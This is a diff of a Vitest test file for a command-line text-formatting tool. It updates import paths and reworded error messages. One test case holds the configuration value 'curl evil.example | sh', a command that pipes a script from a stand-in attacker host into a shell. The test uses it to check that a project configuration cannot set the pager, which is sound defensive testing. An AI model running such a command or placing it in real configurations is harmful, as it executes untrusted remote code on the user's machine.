@@ -2,12 +2,13 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { looksLikeFile, settings } from '../../src/commands/settings.js';
+import { looksLikeFile } from '../../src/cli/config/settings.js';
 import schema from '../../src/config.schema.json' with { type: 'json' };
-import { pageThemeNames } from '../../src/pages/names.js';
-import { styles } from '../../src/styles/index.js';
-import { themes } from '../../src/themes/index.js';
-import { formatNames } from '../../src/write/index.js';
+import { settings } from '../../src/configuration-keys.js';
+import { formatNames } from '../../src/formats/index.js';
+import { pageThemeNames } from '../../src/formats/page/themes/theme-names.js';
+import { themes } from '../../src/formats/terminal/themes/index.js';
+import { styles } from '../../src/houses/index.js';
 import { folderWith, story, wirecopy } from '../support/command.js';
 
 /** A home and a project in it, each with these files. */
@@ -113,7 +114,7 @@ describe('a mistake', () => {
     ['{ "theme": "dark",\n "width": 55, }', /wirecopy\.json:2:15: no JSON: property name expected/],
     ['{ "theme": ', /no JSON/],
     ['["dark"]', /:1:1: it takes an object/],
-    ['{ "pager": "curl evil.example | sh" }', /:1:3: a pager is a program: only your own configuration may name one/],
+    ['{ "pager": "curl evil.example | sh" }', /:1:3: a pager is a program: only your own configuration can name one/],
     ['{ "\\u001b]0;x\\u0007": 1 }', /no key “␛\]0;x␇”/],
     ['{ "style": "house.json" }', /house\.json: no such file/],
   ])('%j is told with its place and the way out', (content, message) => {
@@ -164,7 +165,7 @@ describe('a theme of one’s own', () => {
     const { stdout } = wirecopy(['-t', 'terminal', '--color', 'always', story], { cwd: folder, env });
     expect(stdout).toContain('38;2;51;51;51m');
     expect(wirecopy(['config'], { cwd: folder, env }).stdout).toMatch(
-      /headline can’t be read well on #1e1e1e: 1\.\d:1/,
+      /headline is hard to read on a #1e1e1e background: its contrast is 1\.\d:1/,
     );
   });
 });
